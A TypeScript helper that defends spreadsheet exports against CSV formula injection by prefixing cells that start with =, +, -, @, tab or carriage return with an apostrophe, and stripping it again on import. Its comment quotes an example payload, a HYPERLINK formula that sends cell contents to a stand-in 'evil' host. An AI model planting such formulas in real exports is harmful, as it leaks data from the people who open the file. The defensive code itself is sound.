/**
 * Spreadsheet formula injection (CSV injection): a cell that starts with = + - @ or a tab or
 * carriage return is read by Excel and LibreOffice as a formula, so a commitment title or a
 * department name such as `=HYPERLINK("http://evil/?"&A1,"click")` would run when an officer
 * opens the export. Such cells get a leading apostrophe, which spreadsheets show as plain text
 * (OWASP's advice); the import strips it again so a round trip changes nothing.
 */
const TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r"]);

export function guardCell(value: string): string {
  return value.length > 0 && TRIGGERS.has(value[0]!) ? `'${value}` : value;
}

export function unguardCell(value: string): string {
  return value.length > 1 && value[0] === "'" && TRIGGERS.has(value[1]!) ? value.slice(1) : value;
}
